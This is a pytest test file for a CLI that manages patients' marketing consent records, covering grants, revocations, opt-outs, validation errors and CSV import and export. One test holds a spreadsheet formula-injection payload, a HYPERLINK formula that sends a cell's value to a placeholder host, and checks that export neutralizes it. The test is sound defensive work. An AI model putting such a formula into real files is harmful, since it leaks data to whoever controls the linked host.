"""`phigate consent ...` as an admin uses it: exit codes, --json, CSV import and export."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result
from harness import PHIGATE

from gateway.cli import main

FLU = "marketing/flu-clinic"
PAID = "marketing/sponsored-trial"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    return _config(tmp_path / "one")


def _config(where: Path) -> Path:
    (where / "data").mkdir(parents=True)
    path = where / "phigate.yaml"
    settings = {
        "data_dir": str(where / "data"),
        "consent": {
            "purposes": {
                "flu-clinic": {"description": "Flu clinic"},
                "sponsored-trial": {"description": "Paid by a sponsor", "remunerated": True},
            }
        },
    }
    path.write_text(yaml.safe_dump(settings))
    return path


def consent(config: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["consent", *args, "-c", str(config)], catch_exceptions=False)


def as_json(result: Result) -> object:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def states(config: Path, address: str) -> dict[str, str]:
    shown = as_json(consent(config, "show", address, "--json"))
    assert isinstance(shown, dict)
    return dict(shown["states"])


def test_grant_revoke_opt_out_opt_in_and_show(config: Path) -> None:
    granted = as_json(
        consent(
            config,
            "grant",
            "Pat@Clinic.Example",
            "--purpose",
            "Marketing",
            "--patient-id",
            "P1",
            "--granted-at",
            "2025-01-31",
            "--expires-in",
            "3650d",
            "--source",
            "ehr",
            "--document-ref",
            "EHR-FORM-1234",
            "--json",
        )
    )
    assert granted == {"id": 1, "address": "Pat@clinic.example", "state": "granted"}
    assert (
        consent(
            config, "grant", "kid@clinic.example", "--purpose", FLU, "--patient-id", "P1"
        ).exit_code
        == 0
    )
    assert states(config, "Pat@clinic.example") == {
        "marketing": "granted",
        FLU: "granted",
        PAID: "none",  # remunerated: the marketing authorization does not cover it
    }
    revoked = as_json(
        consent(config, "revoke", "--patient-id", "P1", "--purpose", "marketing", "--json")
    )
    assert revoked == {
        "purpose": "marketing",
        "states": {"Pat@clinic.example": "revoked", "kid@clinic.example": "revoked"},
    }
    first = as_json(consent(config, "opt-out", "kid@clinic.example", "--json"))
    again = as_json(consent(config, "opt-out", "kid@clinic.example", "--purpose", FLU, "--json"))
    assert first == {"recorded": True, "purpose": "marketing"}
    assert again == {"recorded": False, "purpose": FLU}
    wrong_in = consent(config, "opt-in", "kid@clinic.example", "--purpose", FLU)
    assert wrong_in.exit_code == 1
    assert "an opt-out for marketing covers it" in wrong_in.stderr
    assert as_json(
        consent(config, "opt-in", "kid@clinic.example", "--purpose", "marketing", "--json")
    ) == {
        "recorded": True,
        "purpose": "marketing",
        "state": "revoked",
    }
    shown = as_json(consent(config, "show", "kid@clinic.example", "--json"))
    assert isinstance(shown, dict)
    assert shown["patient_ids"] == ["P1"]
    assert [h["kind"] for h in shown["history"]] == ["grant", "revoke", "opt_out", "opt_in"]
    text = consent(config, "show", "Pat@clinic.example")
    assert text.exit_code == 0
    assert "ref EHR-FORM-1234" in text.stdout and "expires 2035-01-29 00:00:00" in text.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["grant", "pat@clinic.example", "--purpose", "marketing/nope"], "write one of marketing,"),
        (["grant", "not-an-address", "--purpose", "marketing"], "local-part@domain"),
        (["grant", "pat@clinic.example", "--purpose", PAID], "discloses"),
        (
            ["grant", "pat@clinic.example", "--purpose", PAID, "--disclosed"],
            "needs remuneration",
        ),
        (["grant", "p@clinic.example", "--purpose", "marketing", "--expires", "soon"], "ISO 8601"),
        (["grant", "p@clinic.example", "--purpose", "marketing", "--expires-in", "1y"], "365d"),
        (
            [
                "grant",
                "p@c.example",
                "--purpose",
                "marketing",
                "--expires",
                "2030-01-01",
                "--expires-in",
                "1d",
            ],
            "not both",
        ),
        (
            [
                "grant",
                "p@c.example",
                "--purpose",
                "marketing",
                "--granted-at",
                "2025-02-01",
                "--expires",
                "2025-01-01",
            ],
            "expire before",
        ),
        (["revoke", "--purpose", "marketing"], "ADDRESS or give --patient-id"),
        (["show", "nobody"], "local-part@domain"),
    ],
)
def test_bad_input_is_a_usage_error_that_writes_nothing(
    config: Path, args: list[str], message: str
) -> None:
    result = consent(config, *args)
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert "Traceback" not in result.output
    assert consent(config, "export").stdout.count("\n") == 1  # the header row only


def _write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


BAD_ROWS = """\
address,patient_id,purpose,effective_at,expires_at,remuneration,remuneration_disclosed,document_ref
a@clinic.example,,marketing,2025-01-01,,,,
b@clinic..example,,marketing,2025-01-01,,,,
c@clinic.example,,marketing/nope,2025-01-01,,,,

d@clinic.example,,marketing,last tuesday,,,,
e@clinic.example,P5,marketing,2025-01-01,2024-12-31,,,
"f@clinic.example",,marketing,2025-01-01,,maybe,,
g@clinic.example,,marketing/sponsored-trial,2025-01-01,,true,,
"h@clinic.example",,"marketing",2025-01-01,,,,"a reference
on two lines"
i@clinic.example,,marketing/flu-clinic,2025-01-01T10:00:00+02:00,,,,EHR-9
j@clinic.example,marketing
"""
EXPECTED_ERRORS = [
    (3, "address", "domain is not a valid host name"),
    (4, "purpose", "unknown purpose 'marketing/nope'"),
    (6, "effective_at", "not an ISO 8601 date"),
    (7, "expires_at", "expire before it is granted"),
    (8, "remuneration", "'maybe' is not a yes or no"),
    (9, "remuneration_disclosed", "paid for by a third party"),
    (10, "document_ref", "one line"),
    (13, None, "the row has 2 values but the header names 8 columns"),
]


def test_import_reports_every_bad_row_and_imports_nothing(config: Path, tmp_path: Path) -> None:
    file = _write_csv(tmp_path / "auth.csv", BAD_ROWS)
    result = consent(config, "import", str(file))
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == len(EXPECTED_ERRORS)
    for line, (number, column, words) in zip(lines, EXPECTED_ERRORS, strict=True):
        where = f"{file}:{number}: " + (f"column {column}: " if column else "")
        assert line.startswith(where) and words in line, line
    assert "10 rows checked, 8 wrong; nothing imported" in result.stdout
    assert consent(config, "export").stdout.count("\n") == 1
    report = consent(config, "import", str(file), "--json")
    assert report.exit_code == 1
    data = json.loads(report.stdout)
    assert [(e["line"], e["column"]) for e in data["errors"]] == [
        (n, c) for n, c, _ in EXPECTED_ERRORS
    ]
    assert data["good_rows"] == 2 and sum(data["imported"].values()) == 0


def test_import_partial_and_dry_run(config: Path, tmp_path: Path) -> None:
    file = _write_csv(tmp_path / "auth.csv", BAD_ROWS)
    dry = consent(config, "import", str(file), "--partial", "--dry-run")
    assert dry.exit_code == 1 and "dry run, nothing written" in dry.stdout
    assert consent(config, "export").stdout.count("\n") == 1
    partial = consent(config, "import", str(file), "--partial")
    assert partial.exit_code == 1
    assert "imported 2 records (2 grant)" in partial.stdout
    assert states(config, "a@clinic.example")["marketing"] == "granted"
    assert states(config, "i@clinic.example")[FLU] == "granted"
    good = _write_csv(
        tmp_path / "good.csv",
        "address,purpose,effective_at\nz@clinic.example,marketing,2025-01-01\n",
    )
    assert consent(config, "import", str(good)).exit_code == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"adress,purpose\n", "unknown column 'adress' (did you mean address?"),
        (b"address,effective_at\n", "no purpose column"),
        (b"kind,purpose\n", "needs an address or a patient_id column"),
        (b"address,purpose,address\n", "named twice"),
        (b"address,purpose\n\xff\xfe,x\n", "not UTF-8"),
    ],
)
def test_an_unusable_file_exits_2(
    config: Path, tmp_path: Path, content: bytes, message: str
) -> None:
    file = tmp_path / "auth.csv"
    file.write_bytes(content)
    result = consent(config, "import", str(file))
    assert result.exit_code == 2
    assert message in result.stderr
    missing = consent(config, "import", str(tmp_path / "missing.csv"))
    assert missing.exit_code == 2 and "cannot read it" in missing.stderr


def test_export_import_round_trip(config: Path, tmp_path: Path) -> None:
    rows = """\
kind,address,patient_id,purpose,effective_at,expires_at,source,document_ref,remuneration,remuneration_disclosed
grant,a@clinic.example,P1,marketing,2025-01-01,2035-01-01,ehr,FORM-1,,
grant,b@clinic.example,P1,marketing/flu-clinic,2025-02-01,,web_form,,,
grant,,P2,marketing,2025-01-01,,ehr,,,
grant,c@clinic.example,P2,marketing/sponsored-trial,2025-01-01,,ehr,FORM-3,yes,yes
revoke,,P1,marketing,2025-03-01,,ehr,,,
grant,b@clinic.example,,marketing/flu-clinic,2025-04-01,,web_form,,,
opt-out,c@clinic.example,,marketing/flu-clinic,,,unsubscribe,link-77,,
opt_out,d@clinic.example,,marketing,,,unsubscribe,,,
opt_in,d@clinic.example,,marketing,,,admin,,,
"""
    imported = consent(config, "import", str(_write_csv(tmp_path / "in.csv", rows)), "--json")
    assert as_json(imported)["imported"] == {"grant": 5, "revoke": 1, "opt_out": 2, "opt_in": 1}  # type: ignore[index]
    exported = tmp_path / "export.csv"
    assert consent(config, "export", "--output", str(exported)).exit_code == 0
    other = _config(tmp_path / "two")
    assert consent(other, "import", str(exported)).exit_code == 0
    again = consent(other, "export").stdout

    def comparable(text: str) -> list[dict[str, str]]:
        # Import records who imports, and when; opt-outs take effect when recorded.
        rows = [
            {k: v for k, v in row.items() if k not in ("actor", "recorded_at")}
            for row in csv.DictReader(io.StringIO(text))
        ]
        for row in rows:
            if row["kind"] in ("opt_out", "opt_in"):
                row["effective_at"] = ""
        return rows

    # Every record, history included, in recording order, with the same values ...
    first = comparable(exported.read_text())
    assert len(first) == 9 and first == comparable(again)
    assert {row["kind"] for row in first} == {"grant", "revoke", "opt_out", "opt_in"}
    # ... and so the same states.
    for address in ("a@clinic.example", "b@clinic.example", "c@clinic.example", "d@clinic.example"):
        assert states(config, address) == states(other, address)
    assert states(other, "a@clinic.example")["marketing"] == "revoked"
    assert states(other, "b@clinic.example")[FLU] == "granted"
    assert states(other, "c@clinic.example") == {
        "marketing": "granted",
        FLU: "opted_out",
        PAID: "granted",
    }
    assert states(other, "d@clinic.example")["marketing"] == "none"
    listed = json.loads(consent(other, "export", "--json").stdout)
    assert len(listed) == 9 and listed[0]["effective_at"] == "2025-01-01T00:00:00Z"


def test_export_neutralizes_formulas_and_import_restores_them(config: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x.example/?leak="&A2,"open")'
    grant = consent(
        config, "grant", "a@clinic.example", "--purpose", "marketing",
        "--source", "ehr", "--document-ref", formula,
    )  # fmt: skip
    assert grant.exit_code == 0, grant.output
    for who, reference in zip("bcd", ("@SUM(1+1)", "-2+3", "'=already quoted"), strict=True):
        opted = consent(config, "opt-out", f"{who}@clinic.example", "--reference", reference)
        assert opted.exit_code == 0, opted.output
    exported = tmp_path / "export.csv"
    assert consent(config, "export", "--output", str(exported)).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(exported.read_text())) for cell in row]
    assert f"'{formula}" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert "''=already quoted" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    other = _config(tmp_path / "two")
    assert consent(other, "import", str(exported)).exit_code == 0
    refs = [r["document_ref"] for r in json.loads(consent(other, "export", "--json").stdout)]
    assert refs == [formula, "@SUM(1+1)", "-2+3", "'=already quoted"]


def test_the_command_is_part_of_phigate() -> None:
    result = subprocess.run(
        [*PHIGATE, "consent", "import", "--help"], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0
    assert "remuneration_disclosed" in result.stdout and "ISO 8601" in result.stdout
